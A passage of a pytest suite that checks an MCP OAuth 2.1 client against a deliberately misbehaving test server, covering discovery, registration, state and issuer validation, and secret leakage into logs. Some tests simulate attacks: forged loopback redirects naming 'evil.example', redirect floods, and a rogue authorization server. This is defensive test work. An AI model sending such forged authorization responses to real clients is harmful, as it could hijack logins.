"""The OAuth 2.1 client (``mcp_ref.oauth.OAuth``) against a misbehaving deployment: every way an
authorization can go wrong ends in one precise ``AuthorizationError`` subclass, with a one-line
message that never holds a token, a code, a code verifier or a client secret.

``Mischief`` plays both the protected MCP server and its authorization server on one origin, over
real sockets.  In its default configuration everything is correct (the first test proves it), and
each knob breaks exactly one thing.
"""

from __future__ import annotations

import io
import json
import logging
import secrets
import socket
import threading
import time
from collections import Counter, defaultdict
from http import HTTPStatus
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest
import requests
from conftest import WAIT
from test_loopback_listener import read_to_the_end

from mcp_ref import Client, Server
from mcp_ref.http.wsgi_server import WsgiServer
from mcp_ref.oauth import pkce
from mcp_ref.oauth.browser import LoopbackBrowser, follow_redirect
from mcp_ref.oauth.client import OAuth
from mcp_ref.oauth.errors import (
    AuthorizationDenied,
    AuthorizationError,
    AuthorizationTimeout,
    CallbackError,
    InsufficientScope,
    MetadataError,
    PkceUnsupported,
    RegistrationError,
    TokenError,
    Unauthorized,
)

PRM_PATH = "/.well-known/oauth-protected-resource/mcp"
AS_PATH = "/.well-known/oauth-authorization-server"
ABSENT = object()  # a knob value: leave the parameter out


def _answer(start_response, status: int, body=b"", content_type="application/json", headers=()):
    if not isinstance(body, bytes):
        body = json.dumps(body).encode()
    start_response(
        f"{status} {HTTPStatus(status).phrase}",
        [("Content-Type", content_type), ("Content-Length", str(len(body))), *headers],
    )
    return [body]


def _merge(document: dict, changes: dict) -> dict:
    """``document`` with ``changes`` applied (a value of None removes the field)."""
    return {k: v for k, v in {**document, **changes}.items() if v is not None}


class Mischief:
    """A protected MCP server at ``/mcp`` (forwarding to ``mcp_app`` when the bearer token is one it
    issued) and its authorization server, on one origin.  The knobs, each breaking one thing:

    - ``prm``: False serves no protected resource metadata (404) and a bare challenge (a 2025-03-26 server);
    - ``prm_fields`` / ``as_fields``: merged into the PRM / the AS metadata (None removes a field);
    - ``as_metadata``: False answers 404 at the AS metadata URL;
    - ``paths``: where /authorize, /token and /register are served;
    - ``answers``: ``{path: (status, content type, body)}`` replaces that endpoint's answer;
    - ``state`` (None: the request's), ``iss`` ("correct", "wrong", ABSENT), ``auth_error``: the redirect;
    - ``granted_scope``: the scope the token endpoint grants (None: the scope asked for);
    - ``refuse_tokens``: 401 even with a token it issued;
    - ``token_prefix``: what each access token it issues starts with (then random characters);
    - ``step_up_tool``: calls of this tool always get 403 ``insufficient_scope`` (scope ``needs:more``);
    - ``resource_metadata``: the URL the challenge names (None: this origin's PRM).

    It records ``hits`` (path -> count), ``seen`` (what reached "authorize", "token", "register",
    "metadata") and ``secrets`` (every code, token, secret and verifier issued or received).
    """

    def __init__(self, mcp_app):
        self.mcp_app, self.origin = mcp_app, ""
        self.prm, self.prm_fields, self.as_metadata, self.as_fields = True, {}, True, {}
        self.paths = {
            "authorize": "/oauth/authorize",
            "token": "/oauth/token",
            "register": "/oauth/register",
        }
        self.answers: dict = {}
        self.state, self.iss, self.auth_error = None, "correct", None
        self.granted_scope, self.refuse_tokens, self.step_up_tool = None, False, None
        self.token_prefix = "at-"
        self.resource_metadata = (
            None  # the challenge's resource_metadata URL (None: the PRM of this origin)
        )
        self.hits: Counter = Counter()
        self.seen: dict = defaultdict(list)
        self.secrets: set = set()
        self.tokens: set = set()
        self.codes: dict = {}
        self.clients: dict = {}
        self.lock = threading.Lock()

    def prm_document(self) -> dict:
        return _merge(
            {
                "resource": self.origin + "/mcp",
                "authorization_servers": [self.origin],
                "scopes_supported": ["mcp:tools"],
            },
            self.prm_fields,
        )

    def as_document(self) -> dict:
        return _merge(
            {
                "issuer": self.origin,
                "authorization_endpoint": self.origin + self.paths["authorize"],
                "token_endpoint": self.origin + self.paths["token"],
                "registration_endpoint": self.origin + self.paths["register"],
                "response_types_supported": ["code"],
                "grant_types_supported": ["authorization_code", "refresh_token"],
                "code_challenge_methods_supported": ["S256"],
                "token_endpoint_auth_methods_supported": ["none", "client_secret_post"],
                "authorization_response_iss_parameter_supported": True,
            },
            self.as_fields,
        )

    def __call__(self, environ, start_response):
        path = environ["PATH_INFO"]
        body = environ["wsgi.input"].read(int(environ.get("CONTENT_LENGTH") or 0))
        with self.lock:
            self.hits[path] += 1
            if path == self.paths["token"]:
                form = {k: v[0] for k, v in parse_qs(body.decode()).items()}
                self.seen["token"].append(form)
                self.secrets.update(
                    v
                    for k, v in form.items()
                    if k in ("code", "code_verifier", "client_secret", "refresh_token")
                )
            if path == AS_PATH:
                self.seen["metadata"].append(environ.get("HTTP_MCP_PROTOCOL_VERSION"))
        if path in self.answers:
            status, content_type, payload = self.answers[path]
            return _answer(start_response, status, payload, content_type)
        if path.startswith("/.well-known/oauth-protected-resource") and self.prm:
            return _answer(start_response, 200, self.prm_document())
        if path == AS_PATH and self.as_metadata:
            return _answer(start_response, 200, self.as_document())
        if path == self.paths["authorize"]:
            return self.authorize(environ, start_response)
        if path == self.paths["token"]:
            return self.token(start_response)
        if path == self.paths["register"]:
            return self.register(body, start_response)
        if path == "/mcp":
            return self.mcp(environ, body, start_response)
        return _answer(start_response, 404, {"error": "not found"})

    def authorize(self, environ, start_response):
        query = {k: v[0] for k, v in parse_qs(environ.get("QUERY_STRING", "")).items()}
        self.seen["authorize"].append(query)
        if (
            query.get("response_type") != "code"
            or query.get("code_challenge_method") != "S256"
            or not query.get("code_challenge")
            or query.get("client_id") not in self.clients
        ):
            return _answer(start_response, 400, {"error": "invalid_request"})
        params = {}
        if self.auth_error:
            params.update(error=self.auth_error, error_description="the user said no")
        else:
            code = secrets.token_urlsafe(16)
            with self.lock:
                self.codes[code] = query
                self.secrets.add(code)
            params["code"] = code
        state = query.get("state") if self.state is None else self.state
        if state is not ABSENT:
            params["state"] = state
        if self.iss is not ABSENT:
            params["iss"] = self.origin if self.iss == "correct" else "https://evil.example"
        return _answer(
            start_response,
            302,
            b"",
            "text/plain",
            [("Location", query["redirect_uri"] + "?" + urlencode(params))],
        )

    def token(self, start_response):
        form = self.seen["token"][-1]
        request = (
            self.codes.pop(form.get("code"), None)
            if form.get("grant_type") == "authorization_code"
            else None
        )
        if (
            request is None
            or not pkce.verifies(form.get("code_verifier"), request["code_challenge"])
            or form.get("redirect_uri") != request["redirect_uri"]
            or form.get("resource") != request.get("resource")
        ):
            return _answer(start_response, 400, {"error": "invalid_grant"})
        client = self.clients.get(form.get("client_id"))
        if client is None or client["client_secret"] != form.get("client_secret"):
            return _answer(start_response, 401, {"error": "invalid_client"})
        access = self.token_prefix + secrets.token_urlsafe(24)
        refresh = "rt-" + secrets.token_urlsafe(24)
        with self.lock:
            self.tokens.add(access)
            self.secrets.update((access, refresh))
        return _answer(
            start_response,
            200,
            {
                "access_token": access,
                "token_type": "Bearer",
                "expires_in": 3600,
                "refresh_token": refresh,
                "scope": request.get("scope", "")
                if self.granted_scope is None
                else self.granted_scope,
            },
            headers=[("Cache-Control", "no-store")],
        )

    def register(self, body: bytes, start_response):
        metadata = json.loads(body)
        self.seen["register"].append(metadata)
        client_id, secret = "client-" + secrets.token_hex(4), "cs-" + secrets.token_urlsafe(24)
        with self.lock:
            self.clients[client_id] = {"client_secret": secret}
            self.secrets.add(secret)
        return _answer(
            start_response,
            201,
            {
                **metadata,
                "client_id": client_id,
                "client_secret": secret,
                "token_endpoint_auth_method": "client_secret_post",
            },
        )

    def mcp(self, environ, body: bytes, start_response):
        header = environ.get("HTTP_AUTHORIZATION", "")
        token = header[len("Bearer ") :] if header.startswith("Bearer ") else None
        where = (
            f', resource_metadata="{self.resource_metadata or self.origin + PRM_PATH}"'
            if self.prm
            else ""
        )
        if token not in self.tokens or self.refuse_tokens:
            invalid = ' error="invalid_token",' if token else ""
            return _answer(
                start_response,
                401,
                {"error": "unauthorized"},
                headers=[("WWW-Authenticate", f'Bearer{invalid} realm="mcp"{where}')],
            )
        try:
            message = json.loads(body) if body else {}
        except ValueError:
            message = {}
        if (
            self.step_up_tool
            and isinstance(message, dict)
            and message.get("method") == "tools/call"
            and message.get("params", {}).get("name") == self.step_up_tool
        ):
            challenge = f'Bearer error="insufficient_scope", scope="needs:more"{where}'
            return _answer(
                start_response,
                403,
                {"error": "insufficient_scope"},
                headers=[("WWW-Authenticate", challenge)],
            )
        return self.mcp_app({**environ, "wsgi.input": io.BytesIO(body)}, start_response)


@pytest.fixture
def app():
    """A running Mischief (correct until a test turns a knob), in front of a real mcp_ref Server."""
    server = Server("t")

    @server.tool
    def hello() -> str:
        """Needs no extra scope."""
        return "hello"

    @server.tool
    def admin() -> str:
        """Behind the step-up knob."""
        return "admin"

    mischief = Mischief(server.wsgi_app())
    httpd = WsgiServer(("127.0.0.1", 0), mischief)
    mischief.origin = httpd.url
    threading.Thread(
        target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    ).start()
    yield mischief
    httpd.shutdown()
    httpd.server_close()


@pytest.fixture(autouse=True)
def debug_logs(caplog):
    """Every test looks for secrets in the mcp_ref log at its most verbose."""
    caplog.set_level(logging.DEBUG, logger="mcp_ref")


def connect(app: Mischief, **options) -> Client:
    if "handler" not in options:
        options.setdefault("authorize", follow_redirect)
    return Client.http(app.origin + "/mcp", auth=OAuth(timeout=WAIT, **options), timeout=WAIT)


def assert_clean(app: Mischief, caplog, exc: Exception | None = None) -> None:
    """The message is one line, and no code, token, verifier or secret is in it or in the logs."""
    if exc is not None:
        message = str(exc)
        assert message.strip() and "\n" not in message and "\r" not in message, repr(message)
        assert not [s for s in app.secrets if s in message], message
    assert (
        app.secrets or exc is not None
    )  # after a flow that got through, there is something to look for
    assert not [s for s in app.secrets if s in caplog.text], "a secret reached the mcp_ref log"


def refused(app: Mischief, caplog, kind: type, **options) -> AuthorizationError:
    """Connect and call a tool: the exception, asserted to be exactly ``kind`` and clean."""
    with pytest.raises(AuthorizationError) as caught, connect(app, **options) as client:
        client.call_tool("hello")
    exc = caught.value
    assert type(exc) is kind, f"{type(exc).__name__}: {exc}"
    assert_clean(app, caplog, exc)
    return exc


def works(app: Mischief, **options) -> None:
    with connect(app, **options) as client:
        assert client.call_tool("hello").content[0].text == "hello"


# -- the reference: everything correct ------------------------------------------------------------


def test_the_default_mischief_is_a_correct_deployment(app, caplog):
    """2025-11-25 basic/authorization §Authorization Code Protection, §Resource Parameter
    Implementation, §Dynamic Client Registration: the authorization request carries ``resource``,
    an S256 ``code_challenge`` and ``state``; the token request ``resource`` and the
    ``code_verifier``; a loopback client registers with ``application_type: "native"`` (2026-07-28
    client-registration §Application Type).  No knob turned: the client gets through."""
    works(app)
    mcp_url = app.origin + "/mcp"
    [registration], [request], [token] = (
        app.seen["register"],
        app.seen["authorize"],
        app.seen["token"],
    )
    assert registration["application_type"] == "native"
    assert (
        request["resource"] == mcp_url
        and request["code_challenge_method"] == "S256"
        and request["state"]
    )
    assert (
        token["resource"] == mcp_url
        and pkce.challenge(token["code_verifier"]) == request["code_challenge"]
    )
    assert (
        token["client_secret"] and len(app.tokens) == 1
    )  # the registered secret was used, one token issued
    assert_clean(app, caplog)


# -- discovery -------------------------------------------------------------------------------------


PRM_ROOT = "/.well-known/oauth-protected-resource"
HTML_PAGE = (200, "text/html", b"<!doctype html><title>Login</title><p>Welcome")


def test_protected_resource_metadata_that_is_not_json_is_refused(app, caplog):
    """RFC 9728 §3.2: the metadata is a JSON object; an HTML page at the resource_metadata URL is no
    metadata (2025-11-25 basic/authorization §Protected Resource Metadata Discovery Requirements).
    With an HTML page at the root URL too, there is none: the error says why for each URL."""
    app.answers[PRM_PATH] = app.answers[PRM_ROOT] = HTML_PAGE
    exc = refused(app, caplog, MetadataError)
    assert app.hits[AS_PATH] == 0
    assert str(exc).count("did not answer JSON metadata") == 2 and PRM_ROOT + " " in str(exc)


def _document(document: dict, **changes) -> tuple:
    return (200, "application/json", json.dumps({**document, **changes}).encode())


@pytest.mark.parametrize(
    "answer",
    [
        HTML_PAGE,
        (302, "text/plain", b""),
        (200, "application/json", b"{}"),
        (200, "application/json", b"[]"),
        "another resource",
        "too large",
    ],
    ids=["html", "redirect", "no resource", "not an object", "another resource", "too large"],
)
def test_a_well_known_url_without_the_resources_metadata_is_passed_over(app, caplog, answer):
    """2025-11-25 basic/authorization §Protected Resource Metadata Discovery Requirements: clients
    fall back to "constructing and requesting the well-known URIs in the order listed": a URL that
    answers something other than this resource's metadata (a catch-all page, a redirect to a login
    page, another resource's document, RFC 9728 §3.3) is passed over for the next, the root one.
    A body too large is abandoned and its connection closed: the next request does not read it."""
    if answer == "another resource":
        answer = _document(app.prm_document(), resource="https://elsewhere.example/mcp")
    elif answer == "too large":
        answer = _document(app.prm_document(), padding="x" * (256 * 1024))
    app.answers[PRM_PATH] = answer
    works(app)
    assert app.hits[PRM_PATH] == 1 and app.hits[PRM_ROOT] == 1
    assert_clean(app, caplog)


@pytest.mark.parametrize(
    "answer",
    [
        HTML_PAGE,
        (302, "text/plain", b""),
        (200, "application/json", b"[]"),
        "another issuer",
        "too large",
    ],
    ids=["html", "redirect", "not an object", "another issuer", "too large"],
)
def test_a_well_known_url_without_the_issuers_metadata_is_passed_over(app, caplog, answer):
    """2025-11-25 basic/authorization §Authorization Server Metadata Discovery: clients "MUST
    attempt multiple well-known endpoints": the OAuth one answering a catch-all page, a redirect,
    or a document for another issuer (RFC 8414 §3.3: it "MUST NOT be used"), the client goes on to
    the OpenID Connect one."""
    if answer == "another issuer":
        answer = _document(app.as_document(), issuer="https://elsewhere.example")
    elif answer == "too large":
        answer = _document(app.as_document(), padding="x" * (256 * 1024))
    app.answers[AS_PATH] = answer
    app.answers["/.well-known/openid-configuration"] = _document(app.as_document())
    works(app)
    assert app.hits[AS_PATH] == 1 and app.hits["/.well-known/openid-configuration"] == 1
    assert_clean(app, caplog)


def test_no_authorization_server_metadata_anywhere_names_each_urls_reason(app, caplog):
    """When no well-known URL holds the metadata, the MetadataError says what each one answered."""
    app.answers[AS_PATH] = HTML_PAGE
    exc = refused(app, caplog, MetadataError)
    assert f"{app.origin}{AS_PATH} did not answer JSON metadata" in str(exc)
    assert f"{app.origin}/.well-known/openid-configuration answered HTTP 404" in str(exc)


def test_protected_resource_metadata_for_another_server_is_refused(app, caplog):
    """RFC 9728 §3.3: a ``resource`` that is not the resource asked about: the client "MUST NOT use
    the metadata"."""
    app.prm_fields = {"resource": "https://elsewhere.example/mcp"}
    exc = refused(app, caplog, MetadataError)
    assert "elsewhere.example" in str(exc) and app.hits[AS_PATH] == 0


@pytest.mark.parametrize("servers", [None, []], ids=["absent", "empty"])
def test_protected_resource_metadata_without_authorization_servers_is_refused(app, caplog, servers):
    """2025-11-25 basic/authorization §Authorization Server Location: the metadata "MUST include the
    authorization_servers field containing at least one authorization server"."""
    app.prm_fields = {"authorization_servers": servers}
    refused(app, caplog, MetadataError)
    assert app.hits[AS_PATH] == 0


@pytest.mark.parametrize(
    "issuer",
    [
        "https://elsewhere.example",
        "{origin}/tenant",
        "{origin}/",
    ],
    ids=["other-origin", "other-path", "trailing-slash"],
)
def test_authorization_server_metadata_for_another_issuer_is_refused(app, caplog, issuer):
    """RFC 8414 §3.3: the ``issuer`` in the metadata "MUST be identical" to the issuer the well-known
    URL was built from (the one named in the PRM); otherwise it "MUST NOT be used"."""
    app.as_fields = {"issuer": issuer.format(origin=app.origin)}
    refused(app, caplog, MetadataError)
    assert app.hits[app.paths["authorize"]] == 0 and app.hits[app.paths["register"]] == 0


@pytest.mark.parametrize("methods", [None, ["plain"]], ids=["absent", "plain-only"])
def test_an_authorization_server_without_s256_is_refused_before_the_user_sees_it(
    app, caplog, methods
):
    """2025-11-25 basic/authorization §Authorization Code Protection: "If
    code_challenge_methods_supported is absent, the authorization server does not support PKCE and
    MCP clients MUST refuse to proceed"; S256 is the method MCP clients MUST use."""
    app.as_fields = {"code_challenge_methods_supported": methods}
    refused(app, caplog, PkceUnsupported)
    assert app.hits[app.paths["authorize"]] == 0 and app.hits[app.paths["register"]] == 0


@pytest.mark.parametrize("where", ["resource", "authorization server"])
def test_metadata_larger_than_256_kib_is_refused(app, caplog, where):
    """Discovery reads at most MAX_METADATA_BYTES (256 KiB) of a metadata document: a larger one is
    refused, not buffered (2025-11-25 basic/authorization §Security Considerations)."""
    paths, document = (
        ((PRM_PATH, PRM_ROOT), app.prm_document())
        if where == "resource"
        else ((AS_PATH,), app.as_document())
    )
    document["padding"] = "x" * (256 * 1024)
    for path in paths:  # (the resource's: at each URL, or the next one would be used)
        app.answers[path] = (200, "application/json", json.dumps(document).encode())
    refused(app, caplog, MetadataError)
    assert app.hits[app.paths["authorize"]] == 0


# -- 2025-03-26: no protected resource metadata ------------------------------------------------------


def test_a_2025_03_26_server_with_metadata_at_its_origin(app, caplog):
    """2025-03-26 basic/authorization §2.3: without protected resource metadata, the authorization
    base URL is the MCP server's origin, whose RFC 8414 metadata the client "MUST" use, sending the
    ``MCP-Protocol-Version`` header."""
    app.prm = False
    works(app)
    assert (
        app.hits[PRM_PATH] >= 1 and app.hits["/.well-known/oauth-protected-resource"] >= 1
    )  # looked, found none
    assert app.seen["metadata"] and set(app.seen["metadata"]) == {"2025-03-26"}
    assert app.hits["/oauth/authorize"] == app.hits["/oauth/token"] == 1  # as the metadata says
    assert_clean(app, caplog)


def test_a_2025_03_26_server_without_metadata_gets_the_default_endpoints(app, caplog):
    """2025-03-26 basic/authorization §2.3.3 Fallbacks: without metadata "clients MUST use the
    following default endpoint paths relative to the authorization base URL": /authorize, /token,
    /register."""
    app.prm, app.as_metadata = False, False
    app.paths = {"authorize": "/authorize", "token": "/token", "register": "/register"}
    works(app)
    assert app.seen["metadata"] and set(app.seen["metadata"]) == {"2025-03-26"}
    assert app.hits["/register"] == app.hits["/authorize"] == app.hits["/token"] == 1
    assert app.seen["token"][0]["resource"] == app.origin + "/mcp"
    assert_clean(app, caplog)


# -- client registration ---------------------------------------------------------------------------


def test_a_registration_endpoint_that_refuses_is_a_registration_error(app, caplog):
    """RFC 7591 §3.2.2: an error response (here ``invalid_redirect_uri``) means no client id; the
    flow stops (2025-11-25 basic/authorization §Dynamic Client Registration)."""
    app.answers[app.paths["register"]] = (
        400,
        "application/json",
        json.dumps(
            {"error": "invalid_redirect_uri", "error_description": "loopback is not allowed"}
        ).encode(),
    )
    exc = refused(app, caplog, RegistrationError)
    assert "invalid_redirect_uri" in str(exc) and app.hits[app.paths["authorize"]] == 0


def test_no_way_to_get_a_client_id_is_a_registration_error(app, caplog):
    """2025-11-25 basic/authorization §Client Registration Approaches: pre-registered, Client ID
    Metadata Document, or Dynamic Client Registration; with none available the client cannot proceed."""
    app.as_fields = {"registration_endpoint": None}  # and no client_id_metadata_document_supported
    refused(app, caplog, RegistrationError)
    assert app.hits[app.paths["authorize"]] == 0


def test_pre_registered_credentials_are_not_used_with_another_issuer(app, caplog):
    """2026-07-28 basic/authorization/client-registration §Authorization Server Binding: credentials
    are bound to the authorization server that issued them; another issuer never sees them."""
    refused(
        app,
        caplog,
        RegistrationError,
        client_id="x",
        client_secret="pre-registered-secret",
        issuer="https://other.example",
    )
    assert not [p for p in app.paths.values() if app.hits[p]]


def test_pre_registered_credentials_stay_with_the_first_authorization_server(app, caplog):
    """§Authorization Server Binding without ``issuer=``: the credentials are bound to the first
    authorization server they are used with.  When the resource's metadata later names another one
    (a compromised or confused MCP server), the client refuses before that server sees anything:
    before the fix, the secret went to its token endpoint with the code."""
    other = Mischief(None)  # only its authorization server is used
    httpd = WsgiServer(("127.0.0.1", 0), other)
    other.origin = httpd.url
    threading.Thread(
        target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    ).start()
    try:
        secret = "pre-registered-" + secrets.token_urlsafe(12)
        app.clients["pre"] = other.clients["pre"] = {"client_secret": secret}
        app.secrets.add(secret)
        auth = OAuth("pre", secret, authorize=follow_redirect, timeout=WAIT)
        with Client.http(app.origin + "/mcp", auth=auth, timeout=WAIT) as client:
            assert client.call_tool("hello").content[0].text == "hello"
        assert [form.get("client_secret") for form in app.seen["token"]] == [secret]
        auth.logout()
        app.prm_fields = {"authorization_servers": [other.origin]}
        with (
            pytest.raises(AuthorizationError) as caught,
            Client.http(app.origin + "/mcp", auth=auth, timeout=WAIT) as client,
        ):
            client.call_tool("hello")
        assert type(caught.value) is RegistrationError and other.origin in str(caught.value), (
            caught.value
        )
        assert_clean(app, caplog, caught.value)
        assert (
            not other.seen["token"]
            and not other.seen["authorize"]
            and not other.hits[other.paths["authorize"]]
        )
        app.prm_fields = {}
        with Client.http(
            app.origin + "/mcp", auth=auth, timeout=WAIT
        ) as client:  # the first one still serves
            assert client.call_tool("hello").content[0].text == "hello"
    finally:
        httpd.shutdown()
        httpd.server_close()


def test_a_fixed_assertion_stays_with_the_first_authorization_server(app, caplog):
    """``assertion="<a JWT>"`` (a workload identity token) is a credential: another authorization
    server, named later by the resource's metadata, could replay it at the one it is for.  Bound
    like pre-registered credentials; the other server never sees it."""
    other = Mischief(None)
    httpd = WsgiServer(("127.0.0.1", 0), other)
    other.origin = httpd.url
    threading.Thread(
        target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
    ).start()
    try:
        auth = OAuth(assertion="workload-identity-jwt", timeout=WAIT)
        with pytest.raises(TokenError), Client.http(app.origin + "/mcp", auth=auth, timeout=WAIT):
            pass  # this Mischief knows no jwt-bearer grant: refused, but the assertion went to its own issuer
        assert [form.get("assertion") for form in app.seen["token"]] == ["workload-identity-jwt"]
        app.prm_fields = {"authorization_servers": [other.origin]}
        with (
            pytest.raises(RegistrationError),
            Client.http(app.origin + "/mcp", auth=auth, timeout=WAIT),
        ):
            pass
        assert not other.seen["token"]
    finally:
        httpd.shutdown()
        httpd.server_close()


# -- the authorization response --------------------------------------------------------------------


@pytest.mark.parametrize(
    "state",
    [
        "not-the-state",
        "",
        ABSENT,
        "\u00e9t\u00e9",
    ],
    ids=["other", "empty", "absent", "non-ascii"],
)
def test_a_redirect_with_the_wrong_state_is_discarded_and_its_code_never_sent(app, caplog, state):
    """2025-11-25 basic/authorization §Open Redirection: clients "SHOULD use and verify state
    parameters ... and discard any results that do not include or have a mismatch with the
    original state".  The code goes nowhere: the token endpoint is never called."""
    app.state = state
    with pytest.raises(Exception) as caught:
        connect(app).close()
    assert type(caught.value) is CallbackError, f"{type(caught.value).__name__}: {caught.value}"
    assert_clean(app, caplog, caught.value)
    assert app.hits[app.paths["authorize"]] == 1 and app.hits[app.paths["token"]] == 0


@pytest.mark.parametrize(
    "iss, advertised",
    [("wrong", True), ("wrong", False), (ABSENT, True)],
    ids=["wrong", "wrong-unadvertised", "absent-but-promised"],
)
def test_a_redirect_with_a_wrong_or_missing_iss_is_discarded(app, caplog, iss, advertised):
    """2026-07-28 basic/authorization §Authorization Response Validation and RFC 9207 §2.4: an ``iss``
    that differs from the recorded issuer, or none from a server that advertises
    ``authorization_response_iss_parameter_supported``, and the response is rejected; the code is
    never exchanged."""
    app.iss = iss
    if not advertised:
        app.as_fields = {"authorization_response_iss_parameter_supported": None}
    refused(app, caplog, CallbackError)
    assert app.hits[app.paths["authorize"]] == 1 and app.hits[app.paths["token"]] == 0


def test_a_redirect_without_iss_from_a_server_that_does_not_promise_it_is_accepted(app, caplog):
    """RFC 9207 §2.4: without ``authorization_response_iss_parameter_supported`` a response without
    ``iss`` is acceptable (2026-07-28 basic/authorization §Authorization Response Validation)."""
    app.iss = ABSENT
    app.as_fields = {"authorization_response_iss_parameter_supported": None}
    works(app)
    assert app.hits[app.paths["token"]] == 1
    assert_clean(app, caplog)


def test_an_error_redirect_is_authorization_denied(app, caplog):
    """RFC 6749 §4.1.2.1 (OAuth 2.1 §4.1.2.1): the authorization server answers an authorization
    request it refuses with ``error`` in the redirect; the client reports it, and exchanges nothing."""
    app.auth_error = "access_denied"
    exc = refused(app, caplog, AuthorizationDenied)
    assert exc.error == "access_denied" and exc.description == "the user said no"
    assert app.hits[app.paths["token"]] == 0


def test_an_error_redirect_with_a_wrong_iss_is_not_acted_on(app, caplog):
    """2026-07-28 basic/authorization §Authorization Response Validation (RFC 9207 §2.4): on an
    ``iss`` mismatch the client "MUST NOT act on or display error" of the response."""
    app.auth_error, app.iss = "access_denied", "wrong"
    exc = refused(app, caplog, CallbackError)
    assert "access_denied" not in str(exc) and "said no" not in str(exc)


def test_nobody_visiting_the_authorization_url_is_a_timeout(app, caplog):
    """2025-11-25 basic/authorization §Authorization Code Protection: the authorization URL the user
    is sent to carries ``code_challenge_method=S256``, ``state`` and ``resource``, never the verifier;
    if the redirect does not come within ``login_timeout`` the flow ends with AuthorizationTimeout
    (a TimeoutError), not a hang."""
    announced: list[str] = []
    handler = LoopbackBrowser(open_browser=False, announce=announced.append)
    try:
        exc = refused(app, caplog, AuthorizationTimeout, handler=handler, login_timeout=0.5)
    finally:
        handler.close()
    assert isinstance(exc, TimeoutError)
    [url] = announced
    query = {k: v[0] for k, v in parse_qs(urlsplit(url).query).items()}
    assert query["code_challenge_method"] == "S256" and query["code_challenge"] and query["state"]
    assert query["resource"] == app.origin + "/mcp" and "code_verifier" not in url
    assert urlsplit(query["redirect_uri"]).hostname == "127.0.0.1"
    assert app.hits[app.paths["authorize"]] == 0 and app.hits[app.paths["token"]] == 0


def test_the_timeout_arrives_when_login_timeout_expires(app, caplog):
    """2025-11-25 basic/authorization §Authorization Flow Steps: the client waits for the user only
    as long as it said (``login_timeout``); the failure reaches the caller then, not when the
    request's own deadline (extended for the user) expires."""
    handler = LoopbackBrowser(open_browser=False, announce=None)
    started = time.monotonic()
    try:
        refused(app, caplog, AuthorizationTimeout, handler=handler, login_timeout=0.5)
    finally:
        handler.close()
    assert time.monotonic() - started < WAIT


def test_the_loopback_listener_is_closed_when_the_flow_ends(app, caplog):
    """RFC 8252 §7.3 / §8.3: the client opens its loopback port to receive the redirect; once the
    redirect came and the flow ended, nothing listens there any more."""
    redirects: list[str] = []

    def browser(
        url: str,
    ) -> None:  # the user approves: their browser follows the redirect to the listener
        def visit() -> None:
            location = follow_redirect(url, timeout=WAIT)
            redirects.append(location)
            requests.get(location, timeout=WAIT).close()

        threading.Thread(target=visit, daemon=True).start()

    handler = LoopbackBrowser(open_browser=False, announce=browser)
    try:
        works(app, handler=handler, login_timeout=WAIT)
        port = urlsplit(redirects[0]).port
        with pytest.raises(ConnectionRefusedError):
            socket.create_connection(("127.0.0.1", port), timeout=WAIT).close()
    finally:
        handler.close()
    assert_clean(app, caplog)


def _browser_after_forgeries(
    forgeries: list[str], answers: list[int], done: threading.Event, *, then_approve: bool
):
    """A user's browser, after someone else (another local process, a web page) first sent each
    of ``forgeries`` (a query, with ``{state}`` the request's) to the loopback redirect URI; the
    listener's answers to them go to ``answers``, and ``done`` is set after the last one."""

    def browser(url: str) -> None:
        query = parse_qs(urlsplit(url).query)
        redirect, state = query["redirect_uri"][0], query["state"][0]

        def visit() -> None:
            for forged in forgeries:
                with requests.get(redirect + "?" + forged.format(state=state), timeout=WAIT) as r:
                    answers.append(r.status_code)
            done.set()
            if then_approve:
                location = follow_redirect(url, timeout=WAIT)
                requests.get(location, timeout=WAIT).close()

        threading.Thread(target=visit, daemon=True).start()

    return browser


@pytest.mark.parametrize(
    "forged",
    [
        "code=FORGED&state=guess",
        "code=FORGED&state={state}&iss=https://evil.example",
        "code=FORGED&state={state}",
        "error=access_denied&state=guess",
        "code=FORGED",
    ],
    ids=["wrong state", "wrong iss", "no iss though promised", "an error", "no state"],
)
def test_a_redirect_for_another_request_does_not_end_the_login(app, caplog, forged):
    """2025-11-25 basic/authorization §Open Redirection: clients "discard any results that do not
    include or have a mismatch with the original state"; RFC 9207 §2.4 likewise for ``iss``.  The
    loopback listener answers such a request 400 and waits on for the real redirect."""
    answers: list[int] = []
    browser = _browser_after_forgeries([forged], answers, threading.Event(), then_approve=True)
    handler = LoopbackBrowser(open_browser=False, announce=browser)
    try:
        works(app, handler=handler, login_timeout=WAIT)
    finally:
        handler.close()
    assert answers == [400]
    [token_request] = app.seen["token"]
    assert token_request["code"] != "FORGED"
    assert_clean(app, caplog)


def test_a_flood_of_forged_redirects_does_not_end_the_login(app, caplog):
    """However many requests that are not the redirect reach the listener first (a web page's 40
    images, another local process), they are refused and the login goes on: only its timeout
    ends the wait."""
    answers: list[int] = []
    forgeries = ["code=FORGED&state=guess"] * 40
    browser = _browser_after_forgeries(forgeries, answers, threading.Event(), then_approve=True)
    handler = LoopbackBrowser(open_browser=False, announce=browser)
    try:
        works(app, handler=handler, login_timeout=2 * WAIT)
    finally:
        handler.close()
    assert answers == [400] * 40
    [token_request] = app.seen["token"]
    assert token_request["code"] != "FORGED"
    assert_clean(app, caplog)


#: The pace of a stray trickling its request to the loopback listener: one byte, then the test
#: waits this long for the login to end (joining its thread) before the next.
TRICKLE = 0.05
#: A request line a stray never finishes: long enough to trickle for 3 * WAIT.
UNFINISHED_REQUEST = b"GET /callback?code=STRAY" + b"x" * int(3 * WAIT / TRICKLE)


class Strays:
    """An ``announce`` for LoopbackBrowser: a stray client connects to the listener first (the
    login's URL is announced only then), then ``visit(url)`` runs in a thread (the user's browser)
    when given.  ``connected`` is set once the stray is there."""

    def __init__(self, visit=None):
        self.visit = visit
        self.connected = threading.Event()
        self.sockets: list[socket.socket] = []
        self.port = 0

    def __call__(self, url: str) -> None:
        redirect = urlsplit(parse_qs(urlsplit(url).query)["redirect_uri"][0])
        self.port = redirect.port
        self.sockets.append(socket.create_connection(("127.0.0.1", self.port), timeout=WAIT))
        self.connected.set()
        if self.visit is not None:
            threading.Thread(target=self.visit, args=(url,), daemon=True).start()

    def close(self) -> None:
        for stray in self.sockets:
            stray.close()


def _login_in_a_thread(app, caplog, handler, *, expect_timeout: bool, **options):
    """Run a login through ``handler`` in a thread of its own: (the thread, its outcome: the
